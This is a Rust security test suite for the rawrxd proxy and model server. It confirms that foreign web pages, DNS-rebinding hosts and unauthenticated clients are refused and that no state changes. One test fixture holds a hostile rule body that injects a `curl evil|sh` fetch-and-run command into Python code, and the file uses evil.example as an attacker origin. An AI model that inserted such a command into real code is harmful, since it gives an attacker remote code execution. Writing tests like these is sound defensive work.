//! The hostile-client suite (issue 13): what a web page in the user's browser, a DNS-rebinding
//! page and a peer on the network can make the real `rawrxd proxy`, `rawrxd serve` and
//! `rawrxd up` binaries do. Each refusal is checked for its status *and* for the state it
//! must leave unchanged (rules, the patching switch, the models directory, what the
//! upstream received).

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

mod support;

use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::time::Duration;

use support::*;

const EVIL: &str = "http://evil.example";

/// Requests the scripted upstream has received.
fn count(upstream: &Upstream) -> usize {
    upstream.received.lock().unwrap().len()
}

/// One exchange over a fresh connection, with every header under the test's control.
struct Answer {
    status: u16,
    head: String,
    body: String,
}

impl Answer {
    fn header(&self, name: &str) -> Option<String> {
        self.head.lines().find_map(|line| {
            let (key, value) = line.split_once(':')?;
            key.trim()
                .eq_ignore_ascii_case(name)
                .then(|| value.trim().to_string())
        })
    }
}

async fn ask(
    addr: SocketAddr,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: &[u8],
) -> Answer {
    let mut head = format!("{method} {path} HTTP/1.1\r\nConnection: close\r\n");
    if !headers.iter().any(|(k, _)| k.eq_ignore_ascii_case("host")) {
        head.push_str(&format!("Host: {addr}\r\n"));
    }
    for (name, value) in headers {
        head.push_str(&format!("{name}: {value}\r\n"));
    }
    head.push_str(&format!("Content-Length: {}\r\n\r\n", body.len()));
    let mut bytes = head.into_bytes();
    bytes.extend_from_slice(body);
    let raw = raw_exchange(addr, &bytes, false, Duration::from_secs(20)).await;
    let text = String::from_utf8_lossy(&raw).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    Answer {
        status: raw_status(&raw),
        head: head.to_string(),
        body: body.to_string(),
    }
}

fn temp(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "rawrxd-security-{tag}-{}-{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Every file under `dir`, with its size: the state a refused request must not change.
fn tree(dir: &Path) -> Vec<(PathBuf, u64)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.map_while(Result::ok) {
            let meta = entry.metadata().unwrap();
            if meta.is_dir() {
                stack.push(entry.path());
            } else {
                out.push((entry.path(), meta.len()));
            }
        }
    }
    out.sort();
    out
}

/// The bodies a browser can send cross-site without a preflight.
const SIMPLE_BODIES: [(&str, &[u8]); 3] = [
    (
        "text/plain",
        br#"{"id":"evil","kind":"replace","find":"import os","replace":"import os; os.system(\"curl evil|sh\")"}"#,
    ),
    ("application/x-www-form-urlencoded", b"enabled=false"),
    (
        "multipart/form-data; boundary=x",
        b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--x--\r\n",
    ),
];

/// Every state-changing endpoint of the proxy's own API.
const PROXY_WRITES: [(&str, &str); 8] = [
    ("POST", "/rawrxd/rules"),
    ("PUT", "/rawrxd/rules/evil"),
    ("DELETE", "/rawrxd/rules/keep"),
    ("POST", "/rawrxd/rules/keep/disable"),
    ("POST", "/rawrxd/rules/keep/enable"),
    ("POST", "/rawrxd/reload"),
    ("PUT", "/rawrxd/patching"),
    ("POST", "/rawrxd/patching"),
];

fn spawn_proxy(dir: &Path, upstream: &str, extra: &[&str]) -> Spawned {
    std::fs::create_dir_all(dir.join("rules")).unwrap();
    std::fs::write(
        dir.join("rules/keep.toml"),
        "[[rule]]\nid = \"keep\"\nkind = \"replace\"\nfind = \"alpha\"\nreplace = \"beta\"\n",
    )
    .unwrap();
    let mut args = vec!["proxy", "--upstream", upstream];
    args.extend_from_slice(extra);
    if !extra.contains(&"--listen") {
        args.extend_from_slice(&["--listen", "127.0.0.1:0"]);
    }
    spawn_binary(&args, dir)
}

async fn rule_ids(addr: SocketAddr) -> Vec<(String, bool)> {
    let rules = ask(addr, "GET", "/rawrxd/rules", &[], b"").await;
    assert_eq!(rules.status, 200, "{}", rules.body);
    let value: serde_json::Value = serde_json::from_str(&rules.body).unwrap();
    value["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["id"].as_str().unwrap().to_string(),
                r["enabled"].as_bool().unwrap(),
            )
        })
        .collect()
}

async fn patching(addr: SocketAddr) -> bool {
    let answer = ask(addr, "GET", "/rawrxd/patching", &[], b"").await;
    serde_json::from_str::<serde_json::Value>(&answer.body).unwrap()["enabled"]
        .as_bool()
        .unwrap()
}

/// The issue's own attack, and every other write of the proxy's API, from a foreign page:
/// 403, and nothing changes.
#[tokio::test]
async fn web_pages_cannot_change_the_proxys_rules_or_switches() {
    let upstream = Upstream::start(Script::ndjson(&[token_line(0)], Duration::ZERO)).await;
    let dir = temp("proxy-origin");
    let proxy = spawn_proxy(&dir, &upstream.url(), &[]);
    let addr = proxy.addr;
    let before = rule_ids(addr).await;
    assert_eq!(before, vec![("keep".to_string(), true)]);

    for (method, path) in PROXY_WRITES {
        for (content_type, body) in SIMPLE_BODIES {
            let answer = ask(
                addr,
                method,
                path,
                &[("Origin", EVIL), ("Content-Type", content_type)],
                body,
            )
            .await;
            assert_eq!(
                answer.status, 403,
                "{method} {path} {content_type}: {}",
                answer.body
            );
            assert!(answer.body.contains("allowed_origins"), "{}", answer.body);
            assert_eq!(answer.header("access-control-allow-origin"), None);
        }
        // Even with a JSON type (which a page could only send after a preflight).
        let answer = ask(
            addr,
            method,
            path,
            &[("Origin", EVIL), ("Content-Type", "application/json")],
            br#"{"enabled":false}"#,
        )
        .await;
        assert_eq!(answer.status, 403, "{method} {path}");
    }
    // Reads are refused too (a page must not read the audit trail through CORS).
    for path in ["/rawrxd/rules", "/rawrxd/corrections", "/rawrxd/stats"] {
        assert_eq!(
            ask(addr, "GET", path, &[("Origin", EVIL)], b"")
                .await
                .status,
            403
        );
    }
    // The sandboxed-iframe origin is foreign too.
    let null = ask(
        addr,
        "PUT",
        "/rawrxd/patching",
        &[("Origin", "null"), ("Content-Type", "text/plain")],
        br#"{"enabled":false}"#,
    )
    .await;
    assert_eq!(null.status, 403);

    // The preflight a page would need for JSON fails.
    let preflight = ask(
        addr,
        "OPTIONS",
        "/rawrxd/rules",
        &[
            ("Origin", EVIL),
            ("Access-Control-Request-Method", "POST"),
            ("Access-Control-Request-Headers", "content-type"),
        ],
        b"",
    )
    .await;
    assert_eq!(preflight.status, 403);
    assert_eq!(preflight.header("access-control-allow-origin"), None);

    assert_eq!(rule_ids(addr).await, before, "rules unchanged");
    assert!(patching(addr).await, "patching still on");
    assert!(
        !std::fs::read_to_string(dir.join("rules/keep.toml"))
            .unwrap()
            .contains("evil"),
        "rule file untouched"
    );
}

/// Without an `Origin` (a non-browser client), state-changing endpoints still take only JSON:
/// 415 for the bodies a browser could send, and nothing changes.
#[tokio::test]
async fn the_proxys_writes_take_only_json() {
    let upstream = Upstream::start(Script::ndjson(&[token_line(0)], Duration::ZERO)).await;
    let dir = temp("proxy-json");
    let proxy = spawn_proxy(&dir, &upstream.url(), &[]);
    let addr = proxy.addr;
    let before = rule_ids(addr).await;
    for (method, path) in PROXY_WRITES.iter().filter(|(m, _)| *m != "DELETE") {
        for (content_type, body) in SIMPLE_BODIES {
            let answer = ask(addr, method, path, &[("Content-Type", content_type)], body).await;
            assert_eq!(
                answer.status, 415,
                "{method} {path} {content_type}: {}",
                answer.body
            );
            assert!(answer.body.contains("application/json"), "{}", answer.body);
        }
        let none = ask(addr, method, path, &[], b"{}").await;
        assert_eq!(none.status, 415, "{method} {path} without a type");
    }
    assert_eq!(rule_ids(addr).await, before);
    assert!(patching(addr).await);
}

/// A page whose DNS name re-binds to 127.0.0.1 is same-origin to the browser, but still
/// names itself in `Host`: 403 on every path, and the upstream never hears of it.
#[tokio::test]
async fn dns_rebinding_hosts_are_refused_on_every_path() {
    let upstream = Upstream::start(Script::ndjson(&[token_line(0)], Duration::ZERO)).await;
    let dir = temp("proxy-rebind");
    let proxy = spawn_proxy(&dir, &upstream.url(), &[]);
    let addr = proxy.addr;
    let port = addr.port();
    for host in [
        format!("evil.example:{port}"),
        "evil.example".to_string(),
        format!("localhost.evil.example:{port}"),
    ] {
        for (method, path, body) in [
            ("GET", "/rawrxd/corrections", &b""[..]),
            ("GET", "/api/tags", &b""[..]),
            (
                "POST",
                "/api/generate",
                &br#"{"model":"m","prompt":"x"}"#[..],
            ),
            ("PUT", "/rawrxd/patching", &br#"{"enabled":false}"#[..]),
        ] {
            let answer = ask(
                addr,
                method,
                path,
                &[("Host", &host), ("Content-Type", "application/json")],
                body,
            )
            .await;
            assert_eq!(answer.status, 403, "{host} {method} {path}");
            assert!(answer.body.contains("allowed_hosts"), "{}", answer.body);
        }
    }
    assert_eq!(count(&upstream), 0, "nothing reached the upstream");
    assert!(patching(addr).await);

    // Names of this machine pass: loopback names and addresses.
    for host in [
        format!("localhost:{port}"),
        format!("127.0.0.1:{port}"),
        format!("app.localhost:{port}"),
    ] {
        let answer = ask(addr, "GET", "/rawrxd/health", &[("Host", &host)], b"").await;
        assert!(
            answer.status == 200 || answer.status == 503,
            "{host}: {}",
            answer.status
        );
    }
}

/// A page on a loopback origin (a local dev server, a desktop app) works, with CORS headers
/// for exactly that origin, through both rawrxd's own API and forwarded requests.
#[tokio::test]
async fn loopback_origins_work_with_cors() {
    let upstream = Upstream::start(Script::ndjson(&[token_line(0)], Duration::ZERO)).await;
    let dir = temp("proxy-local");
    let proxy = spawn_proxy(&dir, &upstream.url(), &["--admin-token", "s3cret"]);
    let addr = proxy.addr;
    let origin = "http://localhost:5173";

    let preflight = ask(
        addr,
        "OPTIONS",
        "/rawrxd/rules",
        &[
            ("Origin", origin),
            ("Access-Control-Request-Method", "POST"),
            (
                "Access-Control-Request-Headers",
                "authorization, content-type",
            ),
        ],
        b"",
    )
    .await;
    assert_eq!(preflight.status, 204);
    assert_eq!(
        preflight.header("access-control-allow-origin").as_deref(),
        Some(origin)
    );
    assert!(preflight
        .header("access-control-allow-methods")
        .unwrap()
        .contains("POST"));
    assert_eq!(
        preflight.header("access-control-allow-headers").as_deref(),
        Some("authorization, content-type")
    );
    assert_eq!(count(&upstream), 0, "preflights are the proxy's to answer");

    let rule = br#"{"id":"from-page","kind":"replace","find":"a","replace":"b"}"#;
    let created = ask(
        addr,
        "POST",
        "/rawrxd/rules",
        &[
            ("Origin", origin),
            ("Content-Type", "application/json"),
            ("Authorization", "Bearer s3cret"),
        ],
        rule,
    )
    .await;
    assert_eq!(created.status, 201, "{}", created.body);
    assert_eq!(
        created.header("access-control-allow-origin").as_deref(),
        Some(origin)
    );
    assert!(rule_ids(addr).await.iter().any(|(id, _)| id == "from-page"));

    // The token still applies to a trusted page.
    let no_token = ask(
        addr,
        "PUT",
        "/rawrxd/patching",
        &[("Origin", origin), ("Content-Type", "application/json")],
        br#"{"enabled":false}"#,
    )
    .await;
    assert_eq!(no_token.status, 401);

    // Forwarded: the upstream's answer, with the proxy's CORS header for this origin.
    let generated = ask(
        addr,
        "POST",
        "/api/generate",
        &[
            ("Origin", "vscode-webview://abc123"),
            ("Content-Type", "application/json"),
        ],
        br#"{"model":"m","prompt":"x"}"#,
    )
    .await;
    assert_eq!(generated.status, 200, "{}", generated.body);
    assert_eq!(
        generated.header("access-control-allow-origin").as_deref(),
        Some("vscode-webview://abc123")
    );
    assert_eq!(count(&upstream), 1);
    // Without an Origin: no CORS header at all.
    let plain = ask(addr, "GET", "/rawrxd/stats", &[], b"").await;
    assert_eq!(plain.status, 200);
    assert_eq!(plain.header("access-control-allow-origin"), None);
}

/// Forwarded requests from a foreign page never reach the upstream (an Ollama behind the
/// proxy would see the proxy's loopback `Host` and could not tell).
#[tokio::test]
async fn foreign_pages_cannot_reach_the_upstream_through_the_proxy() {
    let upstream = Upstream::start(Script::ndjson(&[token_line(0)], Duration::ZERO)).await;
    let dir = temp("proxy-forward");
    let proxy = spawn_proxy(&dir, &upstream.url(), &[]);
    for (method, path) in [
        ("POST", "/api/generate"),
        ("POST", "/api/pull"),
        ("DELETE", "/api/delete"),
        ("POST", "/api/create"),
        ("POST", "/v1/chat/completions"),
        ("GET", "/api/tags"),
    ] {
        let answer = ask(
            proxy.addr,
            method,
            path,
            &[("Origin", EVIL), ("Content-Type", "text/plain")],
            br#"{"model":"x"}"#,
        )
        .await;
        assert_eq!(answer.status, 403, "{method} {path}");
    }
    assert_eq!(count(&upstream), 0);
}

/// Tokens off loopback: the proxy's admin token gates rawrxd's writes and the upstream's
/// model management; API keys gate everything else, except the liveness probes.
#[tokio::test]
async fn tokens_and_api_keys_on_an_exposed_proxy() {
    let upstream = Upstream::start(Script::ndjson(&[token_line(0)], Duration::ZERO)).await;
    let dir = temp("proxy-keys");
    std::fs::write(
        dir.join("rawrxd.toml"),
        "[proxy]\nadmin_token = \"adm1n\"\napi_keys = [\"k1\", \"k2\"]\n",
    )
    .unwrap();
    let proxy = spawn_proxy(&dir, &upstream.url(), &["--listen", "0.0.0.0:0"]);
    let addr = SocketAddr::from(([127, 0, 0, 1], proxy.addr.port()));
    let json = ("Content-Type", "application/json");
    let generate = br#"{"model":"m","prompt":"x"}"#;

    assert_eq!(
        ask(addr, "POST", "/api/generate", &[json], generate)
            .await
            .status,
        401
    );
    assert_eq!(
        ask(
            addr,
            "POST",
            "/api/generate",
            &[json, ("Authorization", "Bearer nope")],
            generate
        )
        .await
        .status,
        401
    );
    assert_eq!(count(&upstream), 0);
    assert_eq!(
        ask(
            addr,
            "POST",
            "/api/generate",
            &[json, ("Authorization", "Bearer k2")],
            generate
        )
        .await
        .status,
        200
    );
    assert_eq!(count(&upstream), 1);
    // Management through the proxy needs the admin token, not an API key.
    for (method, path) in [
        ("POST", "/api/pull"),
        ("DELETE", "/api/delete"),
        ("POST", "/api/blobs/sha256:00"),
    ] {
        let answer = ask(
            addr,
            method,
            path,
            &[json, ("Authorization", "Bearer k1")],
            b"{}",
        )
        .await;
        assert_eq!(answer.status, 401, "{method} {path}");
    }
    assert_eq!(count(&upstream), 1, "no management request was forwarded");
    // The probes clients use to find a server stay open.
    assert_eq!(ask(addr, "GET", "/api/version", &[], b"").await.status, 200);
    assert_eq!(count(&upstream), 2);
    // rawrxd's own writes: the admin token.
    let rule = br#"{"id":"r","kind":"replace","find":"a","replace":"b"}"#;
    assert_eq!(
        ask(
            addr,
            "POST",
            "/rawrxd/rules",
            &[json, ("Authorization", "Bearer k1")],
            rule
        )
        .await
        .status,
        401
    );
    assert_eq!(
        ask(
            addr,
            "POST",
            "/rawrxd/rules",
            &[json, ("Authorization", "Bearer adm1n")],
            rule
        )
        .await
        .status,
        201
    );
}

/// A non-loopback address without a token is refused at start, by both servers.
#[test]
fn exposed_servers_need_a_token() {
    let dir = temp("exposed");
    for args in [
        vec!["proxy", "--listen", "0.0.0.0:0"],
        vec!["serve", "--listen", "0.0.0.0:0"],
    ] {
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_rawrxd"))
            .args(&args)
            .current_dir(&dir)
            .env_remove("RAWRXD_CONFIG")
            .output()
            .unwrap();
        assert!(!out.status.success(), "{args:?} started");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("admin_token"), "{args:?}: {stderr}");
    }
}

/// The real Gemma file, copied under names by `/api/copy` (no model is loaded by these tests).
fn model_path() -> PathBuf {
    let path = std::env::var_os("RAWRXD_TEST_MODEL")
        .map(PathBuf::from)
        .expect("RAWRXD_TEST_MODEL must name the Gemma 3 270M GGUF (scripts/fetch-model.sh)");
    assert!(path.is_file(), "{} is not a file", path.display());
    path
}

fn spawn_serve(dir: &Path, extra: &[&str]) -> Spawned {
    let models = dir.join("models");
    std::fs::create_dir_all(&models).unwrap();
    let model = format!("gemma3:270m={}", model_path().display());
    let mut args = vec![
        "serve",
        "--models",
        models.to_str().unwrap(),
        "--model",
        &model,
    ];
    args.extend_from_slice(extra);
    if !extra.contains(&"--listen") {
        args.extend_from_slice(&["--listen", "127.0.0.1:0"]);
    }
    spawn_binary(&args, dir)
}

/// The management writes of `rawrxd serve`, with bodies that would work if accepted.
fn serve_writes(path: &str) -> Vec<(&'static str, String, String)> {
    vec![
        (
            "POST",
            "/api/copy".into(),
            r#"{"source":"gemma3:270m","destination":"evil:1"}"#.into(),
        ),
        (
            "POST",
            "/api/create".into(),
            format!(r#"{{"model":"evil:2","from":"{path}"}}"#),
        ),
        (
            "POST",
            "/api/pull".into(),
            format!(r#"{{"model":"{path}"}}"#),
        ),
        (
            "DELETE",
            "/api/delete".into(),
            r#"{"model":"gemma3:270m"}"#.into(),
        ),
        (
            "POST",
            "/api/push".into(),
            r#"{"model":"gemma3:270m"}"#.into(),
        ),
        (
            "POST",
            "/api/blobs/sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae"
                .into(),
            "foo".into(),
        ),
    ]
}

/// `rawrxd serve` on its own port: foreign pages get 403 on every management write and on
/// generation, rebinding hosts get 403, non-JSON writes get 415; the models directory does
/// not change. A loopback page's JSON request works.
#[tokio::test]
async fn web_pages_cannot_touch_serves_models() {
    let dir = temp("serve");
    let serve = spawn_serve(&dir, &[]);
    let addr = serve.addr;
    let models = dir.join("models");
    let before = tree(&models);
    let source = model_path().display().to_string();

    for (method, path, body) in serve_writes(&source) {
        for (content_type, _) in SIMPLE_BODIES {
            let answer = ask(
                addr,
                method,
                &path,
                &[("Origin", EVIL), ("Content-Type", content_type)],
                body.as_bytes(),
            )
            .await;
            assert_eq!(
                answer.status, 403,
                "{method} {path} {content_type}: {}",
                answer.body
            );
        }
        let rebound = ask(
            addr,
            method,
            &path,
            &[
                ("Host", "evil.example:11434"),
                ("Content-Type", "application/json"),
            ],
            body.as_bytes(),
        )
        .await;
        assert_eq!(rebound.status, 403, "{method} {path} rebinding");
    }
    // Without Origin, POSTs of management need JSON (blob uploads are files, exempt).
    for (method, path, body) in serve_writes(&source) {
        if method != "POST" || path.starts_with("/api/blobs/") {
            continue;
        }
        for (content_type, _) in SIMPLE_BODIES {
            let answer = ask(
                addr,
                method,
                &path,
                &[("Content-Type", content_type)],
                body.as_bytes(),
            )
            .await;
            assert_eq!(
                answer.status, 415,
                "{method} {path} {content_type}: {}",
                answer.body
            );
        }
    }
    for (method, path) in [
        ("POST", "/api/generate"),
        ("POST", "/api/chat"),
        ("POST", "/v1/chat/completions"),
        ("GET", "/api/tags"),
    ] {
        let answer = ask(
            addr,
            method,
            path,
            &[("Origin", EVIL), ("Content-Type", "text/plain")],
            br#"{"model":"gemma3:270m","prompt":"x","messages":[]}"#,
        )
        .await;
        assert_eq!(answer.status, 403, "{method} {path}");
    }
    assert_eq!(tree(&models), before, "the models directory did not change");

    // A loopback page may (its origin is trusted, its body JSON).
    let copied = ask(
        addr,
        "POST",
        "/api/copy",
        &[
            ("Origin", "http://127.0.0.1:8080"),
            ("Content-Type", "application/json"),
        ],
        br#"{"source":"gemma3:270m","destination":"mine:v1"}"#,
    )
    .await;
    assert_eq!(copied.status, 200, "{}", copied.body);
    assert_eq!(
        copied.header("access-control-allow-origin").as_deref(),
        Some("http://127.0.0.1:8080")
    );
    assert!(models.join("manifests/mine/v1.json").is_file());
}

/// `rawrxd serve` exposed with a token: management needs it; generation endpoints stay open
/// unless API keys are set; the liveness probes always answer.
#[tokio::test]
async fn serve_tokens_and_api_keys() {
    let dir = temp("serve-keys");
    let serve = spawn_serve(&dir, &["--listen", "0.0.0.0:0", "--admin-token", "adm1n"]);
    let addr = SocketAddr::from(([127, 0, 0, 1], serve.addr.port()));
    let json = ("Content-Type", "application/json");
    let copy = br#"{"source":"gemma3:270m","destination":"mine:v1"}"#;
    assert_eq!(
        ask(addr, "POST", "/api/copy", &[json], copy).await.status,
        401
    );
    assert_eq!(
        ask(
            addr,
            "POST",
            "/api/copy",
            &[json, ("Authorization", "Bearer wrong")],
            copy
        )
        .await
        .status,
        401
    );
    let blob = ask(
        addr,
        "POST",
        "/api/blobs/sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
        &[],
        b"foo",
    )
    .await;
    assert_eq!(blob.status, 401);
    assert!(!dir.join("models/manifests/mine").exists());
    assert_eq!(
        ask(
            addr,
            "POST",
            "/api/copy",
            &[json, ("Authorization", "Bearer adm1n")],
            copy
        )
        .await
        .status,
        200
    );
    assert_eq!(
        ask(addr, "GET", "/api/tags", &[], b"").await.status,
        200,
        "no API keys: open"
    );
    drop(serve);

    // API keys set in rawrxd.toml.
    let dir = temp("serve-apikeys");
    std::fs::write(dir.join("rawrxd.toml"), "[serve]\napi_keys = [\"k1\"]\n").unwrap();
    let serve = spawn_serve(&dir, &[]);
    let addr = serve.addr;
    assert_eq!(ask(addr, "GET", "/api/tags", &[], b"").await.status, 401);
    assert_eq!(
        ask(
            addr,
            "GET",
            "/v1/models",
            &[("Authorization", "Bearer nope")],
            b""
        )
        .await
        .status,
        401
    );
    assert_eq!(
        ask(
            addr,
            "GET",
            "/api/tags",
            &[("Authorization", "Bearer k1")],
            b""
        )
        .await
        .status,
        200
    );
    assert_eq!(
        ask(
            addr,
            "GET",
            "/v1/models",
            &[("Authorization", "Bearer k1")],
            b""
        )
        .await
        .status,
        200
    );
    for probe in ["/", "/api/version", "/health"] {
        let status = ask(addr, "GET", probe, &[], b"").await.status;
        assert_eq!(status, 200, "{probe}");
    }
    // Without an admin token, writes need an API key too.
    assert_eq!(
        ask(addr, "POST", "/api/copy", &[json], copy).await.status,
        401
    );
    assert_eq!(
        ask(
            addr,
            "POST",
            "/api/copy",
            &[json, ("Authorization", "Bearer k1")],
            copy
        )
        .await
        .status,
        200
    );
}

/// `rawrxd up` with the proxy exposed: its admin token gates the model management it forwards
/// to its own serve, and a foreign page is refused on the proxy port.
#[tokio::test]
async fn up_gates_forwarded_management_with_the_proxys_token() {
    let dir = temp("up");
    let models = dir.join("models");
    std::fs::create_dir_all(&models).unwrap();
    let model = format!("gemma3:270m={}", model_path().display());
    let up = spawn_binary(
        &[
            "up",
            "--listen",
            "0.0.0.0:0",
            "--admin-token",
            "adm1n",
            "--serve-listen",
            "127.0.0.1:0",
            "--models",
            models.to_str().unwrap(),
            "--model",
            &model,
        ],
        &dir,
    );
    // The first "listening on" line may be serve's (loopback) or the proxy's (0.0.0.0).
    let port = if up.addr.ip().is_unspecified() {
        up.addr.port()
    } else {
        loop {
            let line = up.logs.recv_timeout(Duration::from_secs(30)).unwrap();
            if let Some(rest) = line.split("rawrxd proxy listening on ").nth(1) {
                let addr: SocketAddr = rest.split_whitespace().next().unwrap().parse().unwrap();
                break addr.port();
            }
        }
    };
    let proxy = SocketAddr::from(([127, 0, 0, 1], port));
    let json = ("Content-Type", "application/json");
    let copy = br#"{"source":"gemma3:270m","destination":"mine:v1"}"#;
    assert_eq!(
        ask(proxy, "POST", "/api/copy", &[json], copy).await.status,
        401
    );
    assert_eq!(
        ask(
            proxy,
            "POST",
            "/api/copy",
            &[json, ("Origin", EVIL), ("Authorization", "Bearer adm1n")],
            copy
        )
        .await
        .status,
        403
    );
    assert!(!models.join("manifests/mine").exists());
    let copied = ask(
        proxy,
        "POST",
        "/api/copy",
        &[json, ("Authorization", "Bearer adm1n")],
        copy,
    )
    .await;
    assert_eq!(copied.status, 200, "{}", copied.body);
    assert!(models.join("manifests/mine/v1.json").is_file());
    assert_eq!(ask(proxy, "GET", "/api/tags", &[], b"").await.status, 200);
}
